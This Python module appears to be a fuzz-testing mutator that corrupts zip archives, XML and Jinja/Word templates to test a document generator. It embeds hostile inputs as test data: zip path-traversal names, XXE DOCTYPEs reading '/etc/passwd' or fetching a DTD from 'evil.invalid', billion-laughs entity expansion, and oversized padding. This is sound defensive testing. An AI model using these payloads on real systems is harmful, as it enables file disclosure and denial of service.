"""Parts of zips, XML and tags of templates made unsound."""

from __future__ import annotations

import io
import random
import re
import warnings
import zipfile

from tests.campaign.fuzz.mutate_text import flip, of_bytes
from tests.campaign.fuzz.tokens import literal, token


def in_zip(data: bytes, chance: random.Random) -> bytes:
    """A part changed, renamed, doubled, left out, or blown up; the zip is whole again."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = [(name, archive.read(name)) for name in archive.namelist()]
    except Exception:  # mutated before
        return flip(data, chance)
    at = chance.randrange(len(parts)) if parts else 0
    if not parts:
        return data
    name, content = parts[at]
    match chance.randrange(10):
        case 0:
            del parts[at]
        case 1:
            parts.append((chance.choice((name, name.upper(), parts[0][0])), content))
        case 2:
            parts[at] = (chance.choice(("../" * 9 + name, "/" + name, name + "\0x", "x" * 300, token(chance))), content)
        case 3:
            parts[at] = (name, content + b" " * chance.choice((1 << 16, 1 << 21, 1 << 24)))
        case 4:
            parts.extend((f"{name}{number}", b"") for number in range(chance.choice((10, 3_000))))
        case 5 | 6:
            parts[at] = (name, of_bytes(content, chance))
        case _:
            parts[at] = (name, xml(content, chance))
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", chance.choice((0, 8))) as archive:
        warnings.simplefilter("ignore")
        for number, (name, content) in enumerate(parts):
            short = name.encode("utf-8", "replace")[:65_000].decode("utf-8", "ignore")  # what a zip can hold
            with_name = zipfile.ZipInfo(short.replace("\0", "_") or str(number))
            with_name.compress_type = archive.compression
            archive.writestr(with_name, content)
    return stream.getvalue()


def xml(data: bytes, chance: random.Random) -> bytes:
    """Elements, attributes and texts changed; entities declared; deep and wide nesting."""
    tags = list(re.finditer(rb"<[^<>]{1,300}>", data[: 1 << 19]))
    texts = list(re.finditer(rb">([^<>]{1,300})<", data[: 1 << 19]))
    attributes = list(re.finditer(rb'="([^"<>]{0,200})"', data[: 1 << 19]))
    what = chance.randrange(7)
    if what == 0 and texts:
        at = chance.choice(texts)
        return data[: at.start(1)] + _escaped(token(chance)) + data[at.end(1) :]
    if what in (1, 2) and attributes:
        at = chance.choice(attributes)
        new = literal(chance) if chance.random() < 0.6 else token(chance)
        return data[: at.start(1)] + _escaped(new).replace(b'"', b"&quot;") + data[at.end(1) :]
    if what == 3 and tags:
        at = chance.choice(tags)
        return data[: at.end()] + at.group() * chance.choice((1, 2, 1_000, 60_000)) + data[at.end() :]
    if what == 4 and tags:
        at = chance.choice(tags)
        return data[: at.start()] + data[at.end() :]
    if what == 5:
        head = chance.choice(
            (
                b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
                b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
                b'<!DOCTYPE x [<!ENTITY % p SYSTEM "//evil.invalid/x.dtd"> %p;]>',
                b'<?xml version="1.1" encoding="UTF-7"?>',
            )
        )
        return head + data.replace(b"</", b"&c;</", 3)
    if what == 6 and tags:
        at, deep = chance.choice(tags), chance.choice((50, 3_000, 100_000))
        return data[: at.end()] + b"<x>" * deep + b"</x>" * deep + data[at.end() :]
    return flip(data, chance)


def _escaped(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8", "replace")


_JINJA = (
    "{{ mention }}",
    "{{ x }}",
    "{{ expediteur.nom|join(expediteur.nom) }}",
    "{% for r in rendez_vous %}",
    "{% endfor %}",
    "{% if rendez_vous %}",
    "{% endif %}",
    "{{ '' ~ " + "(" * 200 + "1" + ")" * 200 + " }}",
    "{# ",
    "{{",
    "{%",
    "}}",
    "{% raw %}",
    "{{ 9" + "9" * 5_000 + " }}",
    "{{ mention|default(mention|upper|lower|trim) }}",
    "{{ loop.index }}",
    "{{ rendez_vous }}",
    "{{ expediteur.nom if expediteur else }}",
    "{{ [1][0] }}",
    "{{ {} }}",
    "{{ mention[0] }}",
    "{{ 1/0 }}",
    "{{ 'a' < 1 }}",
    "{{ mention in rendez_vous }}",
    "{{ rendez_vous|first }}",
    "{{ rendez_vous|last|upper }}",
    "{{ ajournements|length|upper }}",
    "{{ expediteur|upper }}",
    "{{ (rendez_vous|first).date }}",
    "{%p if 1 %}",
    "{%tr for r in rendez_vous %}",
    "{%tr endfor %}",
    "{{r mention }}",
    "{{p mention }}",
    "{%- -%}",
)


def jinja(data: bytes, chance: random.Random) -> bytes:
    """A tag of the template changed for another, or one more."""
    found = list(re.finditer(rb"\{[{%][^}]{0,200}[}%]\}", data))
    new = chance.choice(_JINJA).encode()
    if found and chance.random() < 0.6:
        at = chance.choice(found)
        return data[: at.start()] + chance.choice((new, b"", at.group() * 40)) + data[at.end() :]
    at_byte = chance.randrange(len(data) + 1)
    return data[:at_byte] + new * chance.choice((1, 1, 1, 200)) + data[at_byte:]


def word(data: bytes, chance: random.Random) -> bytes:
    """A tag of a Word template's body changed."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        body = parts["word/document.xml"]
    except Exception:  # a workbook, or mutated before
        return in_zip(data, chance)
    parts["word/document.xml"] = jinja(body, chance)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()
